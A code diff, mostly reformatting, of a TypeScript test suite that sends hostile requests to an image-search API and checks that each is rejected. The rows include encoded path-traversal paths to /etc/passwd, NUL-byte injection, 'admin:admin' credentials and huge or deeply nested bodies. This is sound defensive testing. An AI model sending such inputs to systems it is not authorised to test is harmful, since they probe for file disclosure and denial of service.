-    add({ category: 'header', name: `retag: ${name}`, method: 'PATCH', path: `/v1/images/${imageId}`, ...jsonRequest({ tags: ['a'] }), headers: { 'content-type': 'application/json', ...headers }, expect: invalid });
+    add({
+      category: 'header',
+      name: `retag: ${name}`,
+      method: 'PATCH',
+      path: `/v1/images/${imageId}`,
+      ...jsonRequest({ tags: ['a'] }),
+      headers: { 'content-type': 'application/json', ...headers },
+      expect: invalid,
+    });
   header('a 256-character Idempotency-Key', { 'idempotency-key': 'k'.repeat(256) });
   header('an Idempotency-Key with a space', { 'idempotency-key': 'two words' });
   header('an Idempotency-Key with a Latin-1 letter', { 'idempotency-key': 'caf\u00e9' });
@@ -652,24 +1010,82 @@ export async function readApiHostileRequests(ctx: HostileContext): Promise<Hosti
   const rows: HostileRequest[] = [];
   const add = (row: HostileRequest) => rows.push(row);
   const jpeg = await makeJpeg(64, 48, 31);
-  const search = (category: HostileCategory, name: string, init: Pick<HostileRequest, 'headers' | 'body'>, expect: HostileRequest['expect'], query = '') =>
+  const search = (
+    category: HostileCategory,
+    name: string,
+    init: Pick<HostileRequest, 'headers' | 'body'>,
+    expect: HostileRequest['expect'],
+    query = '',
+  ) =>
     add({ category, name: `search: ${name}`, method: 'POST', path: `/v1/search${query}`, ...init, expect });
 
   for (const file of await hostileFiles())
-    search(file.category, `query image: ${file.name}`, multipartRequest(fileParts(file.filename, file.bytes, file.declaredType)), file.expect);
+    search(
+      file.category,
+      `query image: ${file.name}`,
+      multipartRequest(fileParts(file.filename, file.bytes, file.declaredType)),
+      file.expect,
+    );
 
   // Multipart search.
   const form = multipart(fileParts('q.jpg', jpeg));
   search('multipart structure', 'no query image', multipartRequest([{ name: 'k', data: '5' }]), invalid);
-  search('multipart structure', 'two query images', multipartRequest([...fileParts('a.jpg', jpeg), ...fileParts('b.jpg', jpeg)]), tooLarge);
-  search('multipart structure', '9 fields (8 allowed)', multipartRequest([...fileParts('a.jpg', jpeg), ...Array.from({ length: 9 }, (_, i) => ({ name: `f${i}`, data: '1' }))]), tooLarge);
-  search('multipart structure', 'a 20 KiB field', multipartRequest([...fileParts('a.jpg', jpeg), { name: 'filter', data: ' '.repeat(20 * 1024) }]), tooLarge);
-  search('multipart structure', 'a 26 MiB query image', multipartRequest(fileParts('big.jpg', Buffer.concat([jpeg, Buffer.alloc(26 * 2 ** 20)]))), tooLarge);
-  search('multipart structure', 'cut off before the closing boundary', { headers: { 'content-type': form.contentType }, body: form.body.subarray(0, form.body.length - 40) }, invalid);
-  search('multipart structure', 'a boundary that is not the one in the body', { headers: { 'content-type': 'multipart/form-data; boundary=other' }, body: form.body }, invalid);
-  search('multipart structure', 'no boundary', { headers: { 'content-type': 'multipart/form-data' }, body: form.body }, invalid);
+  search(
+    'multipart structure',
+    'two query images',
+    multipartRequest([...fileParts('a.jpg', jpeg), ...fileParts('b.jpg', jpeg)]),
+    tooLarge,
+  );
+  search(
+    'multipart structure',
+    '9 fields (8 allowed)',
+    multipartRequest([
+      ...fileParts('a.jpg', jpeg),
+      ...Array.from({ length: 9 }, (_, i) => ({ name: `f${i}`, data: '1' })),
+    ]),
+    tooLarge,
+  );
+  search(
+    'multipart structure',
+    'a 20 KiB field',
+    multipartRequest([...fileParts('a.jpg', jpeg), { name: 'filter', data: ' '.repeat(20 * 1024) }]),
+    tooLarge,
+  );
+  search(
+    'multipart structure',
+    'a 26 MiB query image',
+    multipartRequest(fileParts('big.jpg', Buffer.concat([jpeg, Buffer.alloc(26 * 2 ** 20)]))),
+    tooLarge,
+  );
+  search(
+    'multipart structure',
+    'cut off before the closing boundary',
+    { headers: { 'content-type': form.contentType }, body: form.body.subarray(0, form.body.length - 40) },
+    invalid,
+  );
+  search(
+    'multipart structure',
+    'a boundary that is not the one in the body',
+    { headers: { 'content-type': 'multipart/form-data; boundary=other' }, body: form.body },
+    invalid,
+  );
+  search(
+    'multipart structure',
+    'no boundary',
+    { headers: { 'content-type': 'multipart/form-data' }, body: form.body },
+    invalid,
+  );
   const withOptions = (name: string, fields: Record<string, string>, expect = invalid, query = '') =>
-    search('upload fields', `query image with ${name}`, multipartRequest([...fileParts('q.jpg', jpeg), ...Object.entries(fields).map(([n, data]) => ({ name: n, data }))]), expect, query);
+    search(
+      'upload fields',
+      `query image with ${name}`,
+      multipartRequest([
+        ...fileParts('q.jpg', jpeg),
+        ...Object.entries(fields).map(([n, data]) => ({ name: n, data })),
+      ]),
+      expect,
+      query,
+    );
   withOptions('k=abc', { k: 'abc' });
   withOptions('k=0', { k: '0' });
   withOptions('threshold=5', { threshold: '5' });
@@ -680,10 +1096,25 @@ export async function readApiHostileRequests(ctx: HostileContext): Promise<Hosti
   withOptions('a model query parameter with traversal', {}, unprocessable, '?model=..%2F..%2Fetc%40x');
 
   // Content types of the JSON search.
-  search('content type', 'text/plain', { headers: { 'content-type': 'text/plain' }, body: `{"imageId":"${missingId}"}` }, unsupported);
+  search(
+    'content type',
+    'text/plain',
+    { headers: { 'content-type': 'text/plain' }, body: `{"imageId":"${missingId}"}` },
+    unsupported,
+  );
   search('content type', 'no content type', { body: `{"imageId":"${missingId}"}` }, unsupported);
-  search('content type', 'application/x-www-form-urlencoded', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `imageId=${missingId}` }, unsupported);
-  search('content type', 'multipart/mixed', { headers: { 'content-type': 'multipart/mixed; boundary=hostile-7f3a9c' }, body: form.body }, unsupported);
+  search(
+    'content type',
+    'application/x-www-form-urlencoded',
+    { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `imageId=${missingId}` },
+    unsupported,
+  );
+  search(
+    'content type',
+    'multipart/mixed',
+    { headers: { 'content-type': 'multipart/mixed; boundary=hostile-7f3a9c' }, body: form.body },
+    unsupported,
+  );
 
   // Malformed JSON.
   const malformed: [string, string | Buffer][] = [
@@ -694,7 +1125,10 @@ export async function readApiHostileRequests(ctx: HostileContext): Promise<Hosti
     ['null', 'null'],
     ['an array', `[{"imageId": "${missingId}"}]`],
     ['nested 100 000 deep', '{"filter":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}'],
-    ['invalid UTF-8 bytes', Buffer.concat([Buffer.from('{"imageId": '), Buffer.from([0xff, 0xfe]), Buffer.from('}')])],
+    [
+      'invalid UTF-8 bytes',
+      Buffer.concat([Buffer.from('{"imageId": '), Buffer.from([0xff, 0xfe]), Buffer.from('}')]),
+    ],
   ];
   for (const [name, text] of malformed) search('malformed JSON', name, rawJson(text), invalid);
   search('malformed JSON', 'a 40 MiB body', rawJson(`{"vector": [${'0,'.repeat(20 * 2 ** 20)}0]}`), tooLarge);
@@ -749,8 +1183,12 @@ export async function readApiHostileRequests(ctx: HostileContext): Promise<Hosti
   search('path parameter', 'an imageId nobody has', jsonRequest(byId), notFound);
 
   // Query parameters and path parameters of the GET routes.
-  const get = (category: HostileCategory, name: string, p: string, expect: HostileRequest['expect'] = invalid) =>
-    add({ category, name, method: 'GET', path: p, expect });
+  const get = (
+    category: HostileCategory,
+    name: string,
+    p: string,
+    expect: HostileRequest['expect'] = invalid,
+  ) => add({ category, name, method: 'GET', path: p, expect });
   const cursorOf = (value: string) => Buffer.from(value).toString('base64url');
   for (const [name, query] of [
     ['limit=0', 'limit=0'],
@@ -796,7 +1234,11 @@ export async function readApiHostileRequests(ctx: HostileContext): Promise<Hosti
   for (const suffix of ['', '/thumbnail', '/content', '/similar']) {
     const route = `image${suffix}`;
     get('path parameter', `${route}: an id that is not a UUID`, `/v1/images/not-a-uuid${suffix}`);
-    get('path parameter', `${route}: an encoded path traversal`, `/v1/images/..%2F..%2Fetc%2Fpasswd${suffix}`);
+    get(
+      'path parameter',
+      `${route}: an encoded path traversal`,
+      `/v1/images/..%2F..%2Fetc%2Fpasswd${suffix}`,
+    );
     get('path parameter', `${route}: a UUID with a NUL after it`, `/v1/images/${missingId}%00${suffix}`);
     get('path parameter', `${route}: an id nobody has`, `/v1/images/${missingId}${suffix}`, notFound);
   }
@@ -804,15 +1246,40 @@ export async function readApiHostileRequests(ctx: HostileContext): Promise<Hosti
   get('path parameter', 'usage: an encoded path traversal', '/v1/tenants/..%2f..%2fplatform/usage');
   get('path parameter', 'usage: a tenant id nobody has', `/v1/tenants/${missingId}/usage`, notFound);
   get('path parameter', 'dot segments out of /v1', '/v1/images/../../etc/passwd', notFound);
-  add({ category: 'path parameter', name: 'a method with no route: DELETE /v1/images/{id}', method: 'DELETE', path: `/v1/images/${missingId}`, expect: notFound });
+  add({
+    category: 'path parameter',
+    name: 'a method with no route: DELETE /v1/images/{id}',
+    method: 'DELETE',
+    path: `/v1/images/${missingId}`,
+    expect: notFound,
+  });
 
   // Credentials.
-  const credentials = (name: string, headers: Record<string, string>, expect: HostileRequest['expect'] = unauthenticated) =>
-    add({ category: 'credentials', name: `search: ${name}`, method: 'POST', path: '/v1/search', as: 'anonymous', ...jsonRequest(byId), headers: { 'content-type': 'application/json', ...headers }, expect });
+  const credentials = (
+    name: string,
+    headers: Record<string, string>,
+    expect: HostileRequest['expect'] = unauthenticated,
+  ) =>
+    add({
+      category: 'credentials',
+      name: `search: ${name}`,
+      method: 'POST',
+      path: '/v1/search',
+      as: 'anonymous',
+      ...jsonRequest(byId),
+      headers: { 'content-type': 'application/json', ...headers },
+      expect,
+    });
   credentials('no credentials', {});
-  credentials('Basic credentials', { authorization: `Basic ${Buffer.from('admin:admin').toString('base64')}` });
+  credentials('Basic credentials', {
+    authorization: `Basic ${Buffer.from('admin:admin').toString('base64')}`,
+  });
   credentials('a garbage Bearer token', { authorization: 'Bearer not.a.jwt' });
-  credentials('both Authorization and X-API-Key', { authorization: 'Bearer x', 'x-api-key': 'dl_aaaaaaaa_x' }, invalid);
+  credentials(
+    'both Authorization and X-API-Key',
+    { authorization: 'Bearer x', 'x-api-key': 'dl_aaaaaaaa_x' },
+    invalid,
+  );
   credentials('a well-formed API key nobody holds', { 'x-api-key': `dl_aaaaaaaa_${'A'.repeat(43)}` });
   add({
     category: 'credentials',
@@ -826,7 +1293,11 @@ export async function readApiHostileRequests(ctx: HostileContext): Promise<Hosti
   return rows;
 }
 
-export type RawResponse = { status: number; headers: Record<string, string | string[] | undefined>; text: string };
+export type RawResponse = {
+  status: number;
+  headers: Record<string, string | string[] | undefined>;
+  text: string;
+};
 
 /**
  * Sends a row as is with `node:http` (fetch would normalise the path and add a content type),
@@ -855,7 +1326,11 @@ export function sendRaw(
         const chunks: Buffer[] = [];
         res.on('data', (chunk: Buffer) => chunks.push(chunk));
         res.on('end', () =>
-          resolve({ status: res.statusCode ?? 0, headers: res.headers, text: Buffer.concat(chunks).toString('utf8') }),
+          resolve({
+            status: res.statusCode ?? 0,
+            headers: res.headers,
+            text: Buffer.concat(chunks).toString('utf8'),
+          }),
         );
         res.on('error', reject);
       },
@@ -920,7 +1395,8 @@ export async function runHostileRequests(
       const health = await sendRaw(baseUrl, { method: 'GET', path: '/healthz' }, undefined).catch(
         (error: Error) => ({ status: 0, text: error.message }),
       );
-      if (health.status !== 200) run.failures.push(`/healthz after row ${index + 1}: ${health.status} ${health.text}`);
+      if (health.status !== 200)
+        run.failures.push(`/healthz after row ${index + 1}: ${health.status} ${health.text}`);
     }
   }
   return run;
